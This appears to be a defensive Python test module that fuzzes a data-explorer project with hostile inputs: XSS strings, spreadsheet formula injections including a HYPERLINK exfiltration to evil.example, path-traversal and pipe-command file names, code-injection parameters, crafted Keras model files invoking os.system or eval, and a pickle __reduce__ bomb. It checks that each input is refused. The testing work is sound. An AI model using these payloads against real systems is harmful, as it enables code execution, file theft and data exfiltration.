"""A hostile corpus, made by code: what strangers' files may try, and what became of each try.

Each try is a function that returns its outcome, such as "refused", and raises `LetIn` where it got
what it wanted: to run code, to read or write outside of its folder, to ask the network, to be more
than text on a page or in a spreadsheet.
"""

from __future__ import annotations

import csv
import html
import io
import json
import os
import pickle
import random
import re
import socket
import time
import zipfile
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import replace
from functools import partial
from html.parser import HTMLParser
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any
from unittest import mock

import h5py
import keras
import numpy as np
import pandas as pd
import soundfile
from markdown_it import MarkdownIt
from PIL import Image

from sierbook import sentences
from sierbook.extensions import hero
from sierbook.report import write_page
from sierbook.tables import shown
from sierlib import settings
from sierlib.data import shards, speech
from sierlib.data.corpora import Unusable, open_corpus
from sierlib.experiment.manifest import format_csv, read_csv, write_csv
from sierlib.explorer import listening
from sierlib.explorer.pair import OwnPair, explain_own
from sierlib.explorer.widget import static_html
from sierlib.run import Run

Tries = Iterator[tuple[str, Callable[[], str]]]


class LetIn(Exception):
    """A try that succeeded."""


#: What strangers write where a sentence or a name is expected.
TEXTS = (
    "<script>pwned=1</script>",
    "<img src=x onerror=pwned=1>",
    "<svg onload=pwned=1><a href='javascript:pwned=1'>x</a></svg>",
    "\"><iframe srcdoc='<script>parent.pwned=1</script>'>",
    "' autofocus onfocus='pwned=1' x='",
    "</script><script>pwned=1</script>",
    "</style><style>*{background:url(http://evil.example/x)}",
    "<!--<script>",
    "]]><script>pwned=1</script>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<math><maction actiontype=statusline xlink:href=javascript:pwned=1>x</maction></math>",
    r"$\href{javascript:pwned=1}{x}$ $$\unicode{<img src=x onerror=pwned=1>}$$",
    "[x](javascript:pwned=1) ![x](http://evil.example/x.png) <http://evil.example>",
    "http://evil.example www.evil.example",
    "# title\n\n- item\n\n```{raw} html\n<script>pwned=1</script>\n```",
    "{raw:html}`<script>pwned=1</script>` {doc}`/etc/passwd` {download}`/etc/passwd`",
    "{{ config }} {% include '/etc/passwd' %}",
    "```{include} /etc/passwd\n```",
    "\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\ \x1b[2J\x07",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'=1+1",
    "＝1+1",
    "$policy ${page} %(x)s {0.__class__} $title",
    "\u202e<tpircs>\u2066\u0000\ufeff",
    "&lt;script&gt;pwned=1&lt;/script&gt; &#60;script&#62;",
    "__proto__ constructor toString",
)

#: Where a row may wish to have its file; `{secret}` is one outside of the corpus.
WISHES = (
    "{secret}",
    "../secret{ext}",
    "./../secret{ext}",
    "sub/../../secret{ext}",
    "..\\secret{ext}",
    "sub\\..\\..\\secret{ext}",
    "C:\\Windows\\win.ini",
    "\\\\server\\share\\x{ext}",
    "//server/share/x{ext}",
    "file://{secret}",
    "~/../../{secret}",
    "$HOME/x{ext}",
    "%2e%2e/secret{ext}",
    "link{ext}",
    "folder/secret{ext}",
    "folder/../link{ext}",
    "deep/out/../link{ext}",
    "/dev/zero",
    "/proc/self/environ",
    "pipe{ext}",
    "\u2025/secret{ext}",
    "a" * 5000 + "{ext}",
    "x\0{ext}",
    "http://evil.example/x{ext}",
    "| touch {secret}",
)

PARAMETERS: tuple[tuple[str, Any], ...] = (
    ("profile", "paper; import os"),
    ("profile", ["smoke"]),
    ("profile", True),
    ("profile", "../smoke"),
    ("data", 5),
    ("data", {"pairs": "x"}),
    ("data", "pickle:/etc/passwd"),
    ("data", "synthetic:x"),
    ("data", "pairs:/does/not/exist.csv"),
    ("data", "pairs:x\0.csv"),
    ("ser", None),
    ("ser", "__import__('os').system('touch x')"),
    ("ier", "fi:"),
    ("seed", "0"),
    ("seed", -1),
    ("seed", 1.5),
    ("seed", True),
    ("seed", 2**40),
    ("run_dir", 7),
    ("run_dir", ["x"]),
    ("run_dir", "x\0y"),
)


# ------------------------------------------------------------------------------------------- models
class _Bomb:
    """What runs code when it is unpickled."""

    def __init__(self, mark: Path) -> None:
        self.mark = str(mark)

    def __reduce__(self) -> Any:
        return open, (self.mark, "w")


def _pack(path: Path, parts: dict[str, bytes], packed: bool = False) -> Path:
    kind = zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED
    with zipfile.ZipFile(path, "w", kind) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return path


def _add_layer(config: dict[str, Any], layer: dict[str, Any]) -> None:
    config["config"]["layers"].append(layer)


def _set_activation(config: dict[str, Any], function: dict[str, Any]) -> None:
    config["config"]["layers"][1]["config"].update(activation=function)


def _layer(name: str, **config: Any) -> dict[str, Any]:
    config = {"name": "stranger", **config}
    return {"module": "keras.layers", "class_name": name, "config": config, "registered_name": None}


def _function(module: str, name: str) -> dict[str, Any]:
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def models(folder: Path, rng: random.Random, full: bool) -> Tries:
    """Files that pass for models."""
    mark = folder / "mark"
    dense = keras.layers.Dense(3, name="dense")
    good = folder / "good.keras"
    keras.Sequential([keras.Input((4,)), dense]).save(good)
    with zipfile.ZipFile(good) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    config = json.loads(parts["config.json"])
    secret = folder / "secret.h5"
    with h5py.File(secret, "w") as file:
        file["x"] = np.ones((4, 3), np.float32)

    def configured(change: Callable[[dict[str, Any]], Any]) -> dict[str, bytes]:
        changed = json.loads(json.dumps(config))
        change(changed)
        return parts | {"config.json": json.dumps(changed).encode()}

    def weighed(change: Callable[[h5py.File], Any]) -> dict[str, bytes]:
        place = folder / "weights.h5"
        place.write_bytes(parts["model.weights.h5"])
        with h5py.File(place, "a") as file:
            del file[kernel]
            change(file)
        return parts | {"model.weights.h5": place.read_bytes()}

    kernel = "layers/dense/vars/0"
    shape, width = (4, 3), 3_000_000 if full else 300_000
    lambda_code = {"class_name": "__lambda__", "config": {"code": "4wAAAA==", "defaults": None}}
    touch = {"command": f"touch {mark}"}
    layers = {
        "lambda": _layer("Lambda", function=lambda_code),
        "nested lambda": _layer("TimeDistributed", layer=_layer("Lambda", function=lambda_code)),
        "os.system": {**_layer("system", **touch), "module": "os"},
        "subprocess": {**_layer("Popen", args=["touch", str(mark)]), "module": "subprocess"},
        "custom class": {**_layer("Gate"), "module": "stranger", "registered_name": "x>Gate"},
        "saved model": _layer("TFSMLayer", filepath=str(folder), call_endpoint="serve"),
        "vocabulary": _layer("StringLookup", vocabulary="/etc/passwd"),
        "download": _function("keras.utils", "get_file"),
    }
    files: dict[str, dict[str, bytes]] = {}
    for name, layer in layers.items():
        files[name] = configured(partial(_add_layer, layer=layer))
    for name in ("eval", "exec", "__import__", "open"):
        function = _function("builtins", name)
        files[f"activation {name}"] = configured(partial(_set_activation, function=function))
    files["preset"] = configured(
        lambda c: c.update(
            module="keras_hub.src.models.backbone",
            class_name="Backbone.from_preset",
            config={"preset": "hf://x/y"},
        )
    )
    files["deep config"] = parts | {"config.json": b"[" * 100_000}
    files["external link"] = weighed(
        lambda file: file.update({kernel: h5py.ExternalLink(str(secret), "x")})
    )
    files["soft link"] = weighed(lambda file: file.update({kernel: h5py.SoftLink("/elsewhere")}))
    files["external data"] = weighed(
        lambda file: file.create_dataset(kernel, shape, "f4", external=[(str(secret), 0, 48)])
    )

    def virtual(file: h5py.File) -> None:
        layout = h5py.VirtualLayout(shape, "f4")
        layout[:] = h5py.VirtualSource(str(secret), "x", shape)
        file.create_virtual_dataset(kernel, layout)

    files["virtual data"] = weighed(virtual)
    files["huge data"] = weighed(
        lambda file: file.create_dataset(kernel, (width, width), "f4", chunks=(100, 100))
    )
    up = "../" * len(folder.parts) + str(mark).lstrip("/")
    for name in (up, str(mark), f"assets/{up}", "..\\mark", "assets/x", "extra.bin"):
        files[f"member {name[-12:]}"] = parts | {name: b"x"}
    saved = io.BytesIO()
    np.savez(saved, x=np.array([_Bomb(mark)], dtype=object))
    plain = {name: data for name, data in parts.items() if name != "model.weights.h5"}
    files["pickled weights"] = plain | {"model.weights.npz": saved.getvalue()}

    for name, content in files.items():
        path = folder / f"{re.sub(r'[^a-z]', '-', name)}.keras"
        yield f"model: {name}", _refusal(_pack(path, content), mark)
    for member in ("config.json", "model.weights.h5"):
        bomb = parts | {member: parts[member] + bytes(100 * width)}
        yield f"bomb: {member}", _refusal(_pack(folder / f"bomb-{member}.keras", bomb, True), mark)
    for name in ("pickle.keras", "pickle.pkl", "pickle.h5"):
        (folder / name).write_bytes(pickle.dumps(_Bomb(mark)))
        yield f"model: {name}", _refusal(folder / name, mark)


def _refusal(path: Path, mark: Path) -> Callable[[], str]:
    """Return the try to have a model explained: it must be refused in one clear line."""

    def attempt() -> str:
        try:
            explain_own(path, np.zeros((128, 128, 3), np.uint8), text="so glad", depth=0)
        except ValueError as refusal:
            said = str(refusal)
            if mark.exists():
                raise LetIn("it left its mark") from refusal
            if "\n" in said or len(said) > 600 or path.name not in said:
                raise LetIn(f"no clear line: {said[:200]}") from refusal
            return "refused in a line"
        raise LetIn("it was read")

    return attempt


def arrays(folder: Path, rng: random.Random, full: bool) -> Tries:
    """Shards that are pickles."""
    mark = folder / "mark-array"
    size = (folder / "speech-00000.bin").write_bytes(pickle.dumps(_Bomb(mark)))

    def attempt() -> str:
        try:
            shards.load_arrays([f"speech-00000.bin#0-{size}"], folder)
        except ValueError:
            if not mark.exists():
                return "refused in a line"
        raise LetIn("a pickle was read")

    yield "array: pickle", attempt


# -------------------------------------------------------------------------------------------- paths
def paths(folder: Path, rng: random.Random, full: bool) -> Tries:
    """Rows that wish for files outside of their corpus."""
    makers: dict[str, Callable[[Path], Any]] = {".png": _paint, ".wav": _hum}
    for ext, make in makers.items():
        make(folder / f"secret{ext}")
    kinds = {
        "pairs": ("data", "image", "text", ".png"),
        "pairs audio": ("data", "audio", "image", ".wav"),
        "pictures": ("ier", "image", "label", ".png"),
        "recordings": ("ser", "audio", "label", ".wav"),
    }
    for kind, (role, column, other, ext) in kinds.items():
        root = folder / kind.replace(" ", "-")
        (root / "sub" / "inner").mkdir(parents=True)
        (root / "deep").mkdir()
        (root / f"link{ext}").symlink_to(folder / f"secret{ext}")
        (root / "deep" / f"link{ext}").symlink_to(folder / f"secret{ext}")
        (root / "folder").symlink_to(folder)
        # "deep/out/../link" is sub/link, and what is read without its links is deep/link.
        (root / "deep" / "out").symlink_to(root / "sub" / "inner")
        makers[ext](root / "sub" / f"link{ext}")
        os.mkfifo(root / f"pipe{ext}")
        makers[ext](root / f"good{ext}")
        _paint(root / "other.png")
        cells = {"text": "so glad", "label": "happy", "image": "other.png"}
        for wish in WISHES:
            path = wish.format(secret=folder / f"secret{ext}", ext=ext)
            rows = [[column, other], [f"good{ext}", cells[other]], [path, cells[other]]]
            yield f"path: {kind} {wish[:40]!r}", _staying(root, kind, role, rows)


def _paint(path: Path) -> None:
    Image.new("RGB", (8, 8), "red").save(path)


def _hum(path: Path) -> None:
    soundfile.write(path, np.sin(np.arange(4000) / 8), settings.SAMPLE_RATE)


def _staying(root: Path, kind: str, role: str, rows: list[list[str]]) -> Callable[[], str]:
    """Return the try to list a table: no item may have a file outside of its folder."""

    def attempt() -> str:
        table = root / "table.csv"
        with table.open("w", newline="", encoding="utf-8") as file:
            csv.writer(file).writerows(rows)
        spec = f"{kind.partition(' ')[0]}:{table}"
        corpus = open_corpus(spec, role, settings.profile("smoke"), 0)
        for item in corpus.items:
            for path in filter(None, (item.image, item.audio)):
                if not path.resolve().is_relative_to(root.resolve()):
                    raise LetIn(f"{path} was read")
        return "quarantined" if corpus.quarantined else "kept in its folder"

    return attempt


# -------------------------------------------------------------------------------------------- texts
class _Structure(HTMLParser):
    """The tags of a page with the names of their attributes: what data must not change."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[Any] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = sorted(name for name, _ in attrs)
        addresses = [value for name, value in attrs if name in ("href", "src")]
        # Pictures and sounds are data; the hero's link names the sample behind a fixed beginning.
        kinds = [re.split(r"[,?]", value or "")[0] for value in addresses]
        self.tags.append((tag, names, kinds))

    def handle_comment(self, data: str) -> None:
        self.tags.append("comment")


def texts(folder: Path, rng: random.Random, full: bool) -> Tries:
    """Sentences and names that want to be more than text, on every page that shows some."""
    pair = explain_own(by_hand, np.full((128, 128, 3), 90, np.uint8), text="so glad", depth=1)
    pages = {
        "explorer": lambda text: static_html([named(pair, text)], "explorer"),
        "hero": lambda text: hero.draw_pair(named(pair, text)),
        "sentence": lambda text: listening.sentence_html([speech.Word(text, 0, 1)], np.ones(1)),
        "quotation": lambda text: shown.quote(text).data,
        "note": lambda text: _COMMON_MARK.render(sentences.bullets([shown.as_text(text)])),
        "table": lambda text: pd.DataFrame({"sentence": [text]}, index=[text]).to_html(),
        "report": lambda text: _report(pair, text, folder / "report"),
    }
    for text in [*TEXTS, *(_mix(rng) for _ in range(200 if full else 20))]:
        yield f"spoken: {text[:30]!r}", _speaking(text)
        for name, write in pages.items():
            # The report draws figures: some texts tell.
            if name != "report" or full or rng.random() < 0.2:
                yield f"{name}: {text[:30]!r}", _showing(text, write)


_COMMON_MARK = MarkdownIt("commonmark").enable(["table", "strikethrough"])


def by_hand(x: dict[str, np.ndarray]) -> np.ndarray:
    joy = (x["speech"].mean(axis=(1, 2, 3)) + x["image"].mean(axis=(1, 2, 3))) / 2
    return np.stack([0 * joy + 0.1, joy, 0 * joy + 0.1, 0.8 - joy], axis=1)


def renamed(pair: OwnPair, text: str) -> OwnPair:
    """Put a text wherever a pair has one."""
    words = [speech.Word(text, 0.0, 0.5)]
    return replace(pair, name=text, text=text, words=words, recognised=text, notes=[text])


def named(pair: OwnPair, text: str) -> dict[str, Any]:
    return {**renamed(pair, text).payload(), "label": text}


def _report(pair: OwnPair, text: str, folder: Path) -> str:
    with mock.patch("sierbook.deletion.add_scores"):
        return write_page(renamed(pair, text), folder).read_text(encoding="utf-8")


def _mix(rng: random.Random) -> str:
    """Return parts of two texts, put together."""
    first, second = rng.sample(TEXTS, 2)
    return first[: rng.randint(1, len(first))] + second[rng.randrange(len(second)) :]


def _speaking(text: str) -> Callable[[], str]:
    def attempt() -> str:
        try:
            said = speech.clean_text(text)
        except Unusable:
            return "refused in a line"
        if re.search(r"[<>{}\[\]\\`|\x00-\x1f]", said):
            raise LetIn(f"markup is spoken: {said!r}")
        return "shown as text"

    return attempt


def _showing(text: str, write: Callable[[str], str]) -> Callable[[], str]:
    def attempt() -> str:
        page = write(text)
        if _Structure(page).tags != _Structure(write("plain")).tags:
            raise LetIn(f"it changes the page: {html.escape(text)}")
        return "shown as text"

    return attempt


# ------------------------------------------------------------------------------------------- tables
def tables(folder: Path, rng: random.Random, full: bool) -> Tries:
    """Texts that are formulas to a spreadsheet."""
    for text in [*TEXTS, *(_mix(rng) for _ in range(200 if full else 20))]:
        yield f"table: {text[:30]!r}", _writing(folder / "written.csv", text)


def _writing(path: Path, text: str) -> Callable[[], str]:
    def attempt() -> str:
        frame = pd.DataFrame({"id": ["a", text], "text": [text, "b"], "value": [-1.5, 2.0]})
        write_csv(frame, path)
        downloaded = str(format_csv(frame))
        with path.open(encoding="utf-8", newline="") as file:
            rows = [*csv.reader(file), *csv.reader(io.StringIO(downloaded, newline=""))]
        cells = [cell for row in rows for cell in row[:2]]
        if any(cell[:1] and cell[0] in "=+-@\t\r\n＝＋－＠" for cell in cells):
            raise LetIn("a formula was written")
        back = read_csv(path, dtype={"id": str, "text": str}, keep_default_na=False)
        if back.to_dict("list") != frame.to_dict("list"):
            raise LetIn(f"it came back changed: {back.to_dict('list')}")
        return "kept as text"

    return attempt


# --------------------------------------------------------------------------------------- parameters
def parameters(folder: Path, rng: random.Random, full: bool) -> Tries:
    """Parameters of notebooks that are no settings."""
    for name, value in PARAMETERS:
        yield f"parameter: {name}={value!r}", _asking(folder / "run", name, value)


def _asking(place: Path, name: str, value: Any) -> Callable[[], str]:
    def attempt() -> str:
        try:
            Run.open(**{"profile": "smoke", "run_dir": place, name: value})
        except (ValueError, FileNotFoundError) as refusal:
            if place.exists() or "\n" in str(refusal):
                raise LetIn("something was done before it was refused") from refusal
            return "refused in a line"
        raise LetIn("it was taken")

    return attempt


# ---------------------------------------------------------------------------------------------- all
GROUPS = (models, arrays, paths, texts, tables, parameters)


@contextmanager
def shut_network() -> Iterator[list[Any]]:
    """Keep the network shut, and list who asked for it."""
    asked: list[Any] = []

    def refuse(*arguments: Any, **_: Any) -> Any:
        asked.append(arguments)
        raise OSError("the network is shut")

    with (
        mock.patch.object(socket.socket, "connect", refuse),
        mock.patch.object(socket, "getaddrinfo", refuse),
    ):
        yield asked


def end(attempt: Callable[[], str]) -> str:
    """Make a try and return its outcome."""
    try:
        return attempt()
    except LetIn as reason:
        return f"let in: {reason}"
    except Exception as error:
        return f"crashed: {type(error).__name__}: {error}"


def try_all(full: bool, seed: int) -> Iterator[tuple[str, str]]:
    """Try everything; yield each try's name and outcome, which begins with "let in" or "crashed"
    where it must not have come to that."""
    rng = random.Random(seed)
    with TemporaryDirectory() as place, shut_network() as asked:
        for group in GROUPS:
            folder = Path(place) / group.__name__
            folder.mkdir()
            for name, attempt in group(folder, rng, full):
                outcome = end(attempt)
                if asked:
                    outcome = f"let in: the network was asked for {asked.pop()}"
                yield name, outcome


def run(full: bool, seed: int) -> dict[str, Any]:
    """Return how many tries were made, how many got in, and how they ended."""
    start = time.perf_counter()
    outcomes: Counter[str] = Counter()
    failed = []
    for name, outcome in try_all(full, seed):
        kind = outcome.partition(":")[0]
        outcomes[kind] += 1
        if kind in ("let in", "crashed"):
            failed.append(f"{name}: {outcome}"[:300])
    return {
        "tried": outcomes.total(),
        "let_in": outcomes["let in"],
        "crashed": outcomes["crashed"],
        "outcomes": {kind: count for kind, count in outcomes.most_common() if count},
        "faults": failed,
        "seconds": round(time.perf_counter() - start, 1),
    }
